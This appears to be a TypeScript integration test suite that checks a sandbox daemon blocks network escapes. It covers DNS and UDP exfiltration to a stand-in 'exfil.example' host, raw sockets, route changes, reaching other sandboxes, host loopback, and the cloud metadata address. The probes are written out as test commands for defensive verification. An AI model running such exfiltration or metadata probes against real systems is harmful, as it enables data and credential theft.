/**
 * Network attacks from inside sandboxes, each of which must fail, while a neighbouring
 * sandbox's exec keeps succeeding during and after; each attack is also shown to
 * succeed where the policy allows it (or in a mode without the defence), so the test
 * can fail. Attacks: connect to a non-allowed address; exfiltrate over DNS (the fake
 * upstream records every question it gets) and over UDP to an arbitrary port; raw,
 * packet and non-TCP/UDP sockets; changing addresses, routes and links; reaching another
 * sandbox on the bridge; reaching the host's loopback services with host loopback off;
 * reaching a cloud instance metadata address.
 *
 * Traffic stays on this host (see test/integration/net-helpers.ts): servers on TEST-NET-2
 * addresses in the instance's own netns, and one TCP server on the host's 127.0.0.1.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import net from 'node:net';
import { execa } from 'execa';
import { IS_ROOT, TestDaemon, netnsOf } from '../integration/harness.js';
import { NET, NetnsServer, addTestAddresses, eventsOf, probeIn } from '../integration/net-helpers.js';

const GW = '10.201.0.1';

describe.skipIf(!IS_ROOT)('attack: get traffic out of a sandbox', () => {
  let d: TestDaemon;
  let upstream: NetnsServer;
  let udp: NetnsServer;
  const servers: NetnsServer[] = [];
  let neighbour: string;
  let hostServer: net.Server;
  let hostPort: number;
  const hostConns: string[] = [];

  beforeAll(async () => {
    hostServer = net.createServer((c) => { hostConns.push(String(c.remoteAddress)); c.end('host-loopback-service\n'); });
    await new Promise<void>((r) => hostServer.listen(0, '127.0.0.1', () => r()));
    hostPort = (hostServer.address() as net.AddressInfo).port;
    d = await TestDaemon.start({ slot: 31, config: `[network]\nupstream_dns = ["${NET.dns}:53"]\nhost_resolvers = ["127.0.0.1:9"]\n` });
    neighbour = (await d.client.createSandbox({})).id;
    const first = await d.client.createSandbox({ network: { mode: 'open' } });
    await addTestAddresses(d);
    upstream = await NetnsServer.start(d, 'dns', NET.dns, 53, JSON.stringify({ 'pypi.org': [NET.pypi] }));
    udp = await NetnsServer.start(d, 'udp', NET.udp, 9999);
    servers.push(await NetnsServer.start(d, 'tcp', NET.other, 443, 'other-https'));
    await d.client.deleteSandbox(first.id, { force: true });
  });

  afterAll(async () => {
    for (const s of [upstream, udp, ...servers]) await s?.stop();
    hostServer?.close();
    await d?.cleanup();
  });

  /** Runs the attack while the neighbour execs, and once more after: the neighbour must answer both times. */
  const attack = async (id: string, script: string): Promise<string[]> => {
    const [out, during] = await Promise.all([probeIn(d, id, script), d.client.exec(neighbour, { argv: ['echo', 'alive'] })]);
    expect(during.stdout.toString()).toBe('alive\n');
    expect((await d.client.exec(neighbour, { argv: ['echo', 'alive'] })).stdout.toString()).toBe('alive\n');
    return out;
  };

  it('connect to a non-allowed address: EPERM, counted; the same connect works where allowed', async () => {
    const sb = await d.client.createSandbox({ network: { mode: 'allow', allow: [{ cidr: `${NET.pypi}/32`, ports: [443] }] } });
    const open = await d.client.createSandbox({ network: { mode: 'open' } });
    try {
      expect(await attack(sb.id, `/tmp/p tcp ${NET.other} 443; /tmp/p tcp ::ffff:${NET.other} 443`)).toEqual(['EPERM', 'EPERM']);
      expect((await d.client.getNetwork(sb.id)).denied.connect).toBe(2);
      expect((await eventsOf(d, sb.id, 'network.denied')).length).toBeGreaterThan(0);
      expect(await probeIn(d, open.id, `/tmp/p tcp ${NET.other} 443`)).toEqual(['ok other-https']);
    } finally {
      await d.client.deleteSandbox(sb.id, { force: true });
      await d.client.deleteSandbox(open.id, { force: true });
    }
  });

  it('exfiltrate over DNS: a non-allowed name is refused and never reaches the upstream; other servers are unreachable; open mode shows the query would have gone out', async () => {
    const sb = await d.client.createSandbox({ network: { mode: 'allow', allow: [{ host: 'pypi.org', ports: [443] }] } });
    const open = await d.client.createSandbox({ network: { mode: 'open' } });
    try {
      const before = upstream.lines.length;
      const out = await attack(sb.id, [
        `/tmp/p dns ${GW} c2VjcmV0LWFuc3dlcg.exfil.example`, `/tmp/p dns ${GW} pypi.org.exfil.example`,
        `/tmp/p dns ${NET.dns} direct.exfil.example`, '/tmp/p dns 10.0.2.3 slirp.exfil.example',
      ].join('; '));
      expect(out).toEqual(['rcode=5', 'rcode=5', 'EPERM', 'EPERM']);
      expect(upstream.lines.slice(before).filter((l) => l.includes('exfil'))).toEqual([]);
      expect((await d.client.getNetwork(sb.id)).denied).toMatchObject({ dns_refused: 2, sendmsg: 2 });
      expect((await eventsOf(d, sb.id, 'network.dns_refused')).length).toBeGreaterThan(0);
      // The attempt can succeed: in open mode the resolver forwards it, and the upstream sees the data.
      expect(await probeIn(d, open.id, `/tmp/p dns ${GW} c2VjcmV0LWFuc3dlcg.exfil.example`)).toEqual(['rcode=3']);
      expect(upstream.lines.slice(before)).toContain('query c2vjcmv0lwfuc3dlcg.exfil.example 1');
      // But even open mode sends DNS only through the resolver (so deny-host rules hold).
      expect(await probeIn(d, open.id, `/tmp/p dns ${NET.dns} direct.exfil.example; /tmp/p tcp ${NET.dns} 53`)).toEqual(['EPERM', 'EPERM']);
    } finally {
      await d.client.deleteSandbox(sb.id, { force: true });
      await d.client.deleteSandbox(open.id, { force: true });
    }
  });

  it('exfiltrate over UDP to an arbitrary port: sendto is refused and nothing arrives; an allowed port delivers', async () => {
    const sb = await d.client.createSandbox({ network: { mode: 'allow', allow: [{ cidr: `${NET.pypi}/32` }] } });
    const ok = await d.client.createSandbox({ network: { mode: 'allow', allow: [{ cidr: `${NET.udp}/32`, ports: [9999], protocol: 'udp' }] } });
    try {
      const before = udp.lines.length;
      expect(await attack(sb.id, `/tmp/p udp ${NET.udp} 9999; /tmp/p udpc ${NET.udp} 9999; /tmp/p udp ::ffff:${NET.udp} 9999`)).toEqual(['EPERM', 'EPERM', 'EPERM']);
      expect(await probeIn(d, ok.id, `/tmp/p udp ${NET.udp} 9999`)).toEqual(['ok']);
      // The datagram of the allowed sandbox is the only one that arrived.
      const okAddr = (await d.client.getNetwork(ok.id)).address;
      while (udp.lines.length === before) await new Promise((r) => setTimeout(r, 20));
      expect(udp.lines.slice(before)).toEqual([`udp ${okAddr} probe`]);
    } finally {
      await d.client.deleteSandbox(sb.id, { force: true });
      await d.client.deleteSandbox(ok.id, { force: true });
    }
  });

  it('raw, packet and non-TCP/UDP sockets are refused in allow and open mode; the same calls work in mode none', async () => {
    const script = '/tmp/p sock inet raw 1; /tmp/p sock inet6 raw 58; /tmp/p sock packet raw 0; /tmp/p sock inet dgram 136; /tmp/p sock inet stream 262';
    const none = await probeIn(d, neighbour, script);
    expect(none).toEqual(['ok', 'ok', 'ok', 'ok', 'ok']);
    for (const mode of ['allow', 'open'] as const) {
      const sb = await d.client.createSandbox({ network: mode === 'allow' ? { mode, allow: [{ cidr: `${NET.pypi}/32` }] } : { mode } });
      try {
        expect(await attack(sb.id, script), mode).toEqual(['EPERM', 'EPERM', 'EPERM', 'EPERM', 'EPERM']);
        // Raw and packet sockets fail on the missing CAP_NET_RAW; UDP-Lite and MPTCP are the egress programs' sock_create denials.
        expect((await d.client.getNetwork(sb.id)).denied.sock_create).toBe(2);
        const caps = await probeIn(d, sb.id, 'grep CapBnd /proc/self/status');
        expect(BigInt(`0x${caps[0].split(':')[1].trim()}`) & (1n << 13n)).toBe(0n); // CAP_NET_RAW
      } finally {
        await d.client.deleteSandbox(sb.id, { force: true });
      }
    }
  });

  it('cannot change its address, routes or links (no CAP_NET_ADMIN); the same commands are valid from outside', async () => {
    const sb = await d.client.createSandbox({ network: { mode: 'open' } });
    try {
      const addr = (await d.client.getNetwork(sb.id)).address!;
      const cmds = ['ip addr add 10.201.200.200/16 dev eth0', 'ip route add 192.0.2.0/24 via 10.201.0.1', 'ip route del default', 'ip link set eth0 down', 'ip link add t0 type veth peer name t1', 'ip link add t2 link eth0 type macvlan'];
      const out = await attack(sb.id, cmds.map((c) => `${c} 2>&1 | head -1`).join('; ') + '; ip -o -4 addr show dev eth0 | awk \'{print $4}\'; ip route | grep -c default');
      // busybox ip answers from netlink (RTNETLINK) or from an ioctl (SIOCSIFFLAGS, tunnels): EPERM either way.
      expect(out.slice(0, 6).every((l) => /^ip: .*Operation not permitted$/.test(l)), out.join('\n')).toBe(true);
      expect(out.slice(6)).toEqual([`${addr}/16`, '1']);
      // From the host side (root of the host's user namespace) the first one is a valid change.
      const pid = String((await d.client.getSandbox(sb.id)).init_pid);
      await execa('nsenter', ['-t', pid, '-n', '--', 'ip', 'addr', 'add', '10.201.200.200/16', 'dev', 'eth0']);
      expect(await probeIn(d, sb.id, 'ip -o -4 addr show dev eth0 | wc -l')).toEqual(['2']);
    } finally {
      await d.client.deleteSandbox(sb.id, { force: true });
    }
  });

  it('cannot reach another sandbox on the bridge, in either mode; the listener itself is reachable from its own sandbox and the instance netns', async () => {
    const target = await d.client.createSandbox({ network: { mode: 'open' } });
    const a = await d.client.createSandbox({ network: { mode: 'open' } });
    const b = await d.client.createSandbox({ network: { mode: 'allow', allow: [{ cidr: '10.201.0.0/16' }] } });
    try {
      const t = (await d.client.getNetwork(target.id)).address!;
      await probeIn(d, target.id, 'cp /tmp/p /tmp/listener');
      await d.client.startExec(target.id, { argv: ['/tmp/listener', 'listen', '8080', 'target-service'] });
      expect(await probeIn(d, target.id, 'until /tmp/p tcp 127.0.0.1 8080 | grep -q ok; do sleep 0.05; done; /tmp/p tcp 127.0.0.1 8080')).toEqual(['ok target-service']);
      const r = await execa('nsenter', [`--net=/run/netns/${netnsOf(d)}`, '--', 'busybox', 'nc', '-w', '2', t, '8080'], { reject: false, input: '' });
      expect(r.stdout.trim(), `${r.exitCode} ${r.stderr}`).toBe('target-service');
      expect(await attack(a.id, `/tmp/p tcp ${t} 8080; /tmp/p udp ${t} 8080`)).toEqual(['EPERM', 'EPERM']);
      // Even a rule allowing the whole bridge subnet cannot: the bridge is infrastructure, denied first.
      expect(await attack(b.id, `/tmp/p tcp ${t} 8080`)).toEqual(['EPERM']);
      expect((await d.client.getNetwork(b.id)).denied.last).toBe(`${t}:8080/tcp (connect)`);
    } finally {
      for (const s of [target, a, b]) await d.client.deleteSandbox(s.id, { force: true });
    }
  });

  it('cannot reach the host\'s loopback services with host loopback off; with it on and the gateway allowed, the same connect reaches them', async () => {
    const sb = await d.client.createSandbox({ network: { mode: 'open' } });
    const al = await d.client.createSandbox({ network: { mode: 'allow', allow: [{ cidr: '10.0.2.2/32' }] } });
    try {
      expect(await attack(sb.id, `/tmp/p tcp 10.0.2.2 ${hostPort}`)).toEqual(['EPERM']);
      expect(await attack(al.id, `/tmp/p tcp 10.0.2.2 ${hostPort}`)).toEqual(['EPERM']);
      expect(hostConns).toEqual([]);
    } finally {
      await d.client.deleteSandbox(sb.id, { force: true });
      await d.client.deleteSandbox(al.id, { force: true });
    }
    const on = await TestDaemon.start({ slot: 32, config: '[network]\nhost_loopback = true\nhost_resolvers = ["127.0.0.1:9"]\n' });
    try {
      const ok = await on.client.createSandbox({ network: { mode: 'allow', allow: [{ cidr: '10.0.2.2/32', ports: [hostPort] }] } });
      expect(await probeIn(on, ok.id, `/tmp/p tcp 10.0.2.2 ${hostPort}`)).toEqual(['ok host-loopback-service']);
      expect(hostConns.length).toBe(1);
      await on.client.deleteSandbox(ok.id, { force: true });
    } finally {
      await on.cleanup();
    }
  });

  it('cannot reach a cloud metadata address (169.254.169.254), in either mode and even when allowed; the server there answers the instance netns', async () => {
    // A stand-in metadata service on the instance netns's loopback: where slirp4netns would otherwise lead (the host's metadata service).
    await execa('ip', ['-n', netnsOf(d), 'addr', 'replace', '169.254.169.254/32', 'dev', 'lo']);
    const meta = await NetnsServer.start(d, 'tcp', '169.254.169.254', 80, 'metadata-credentials');
    const open = await d.client.createSandbox({ network: { mode: 'open' } });
    const al = await d.client.createSandbox({ network: { mode: 'allow', allow: [{ cidr: '169.254.169.254/32', ports: [80] }, { cidr: `${NET.other}/32`, ports: [443] }] } });
    try {
      const r = await execa('nsenter', [`--net=/run/netns/${netnsOf(d)}`, '--', 'busybox', 'nc', '-w', '2', '169.254.169.254', '80'], { reject: false, input: '' });
      expect(r.stdout.trim(), `${r.exitCode} ${r.stderr}`).toBe('metadata-credentials');
      expect(await attack(open.id, `/tmp/p tcp 169.254.169.254 80; /tmp/p tcp ${NET.other} 443`)).toEqual(['EPERM', 'ok other-https']);
      expect(await attack(al.id, `/tmp/p tcp 169.254.169.254 80; /tmp/p tcp ${NET.other} 443`)).toEqual(['EPERM', 'ok other-https']);
      expect((await d.client.getNetwork(al.id)).denied.last).toBe('169.254.169.254:80/tcp (connect)');
    } finally {
      await d.client.deleteSandbox(open.id, { force: true });
      await d.client.deleteSandbox(al.id, { force: true });
      await meta.stop();
      await execa('ip', ['-n', netnsOf(d), 'addr', 'del', '169.254.169.254/32', 'dev', 'lo']);
    }
  });

  it('host info and per-sandbox defences say what is enforced', async () => {
    const host = await d.client.hostInfo();
    for (const k of ['network_namespace', 'egress_policy', 'dns_policy']) expect((host.defences as Record<string, { enforced: boolean }>)[k].enforced, k).toBe(true);
    const sb = await d.client.createSandbox({ network: { mode: 'allow', allow: [{ cidr: `${NET.pypi}/32` }] } });
    try {
      expect((await d.client.getSandbox(sb.id)).defences).toMatchObject({
        network_namespace: { enforced: true }, egress_policy: { enforced: true, detail: expect.stringContaining('only allow rules') }, dns_policy: { enforced: true },
      });
      await d.client.stopSandbox(sb.id, { timeoutMs: 0 });
      expect((await d.client.getSandbox(sb.id)).defences).toMatchObject({ egress_policy: { enforced: false, detail: expect.stringContaining('stopped') } });
    } finally {
      await d.client.deleteSandbox(sb.id, { force: true });
    }
    expect((await d.client.getSandbox(neighbour)).defences).toMatchObject({ egress_policy: { enforced: true, detail: expect.stringContaining('mode none') } });
  });
});
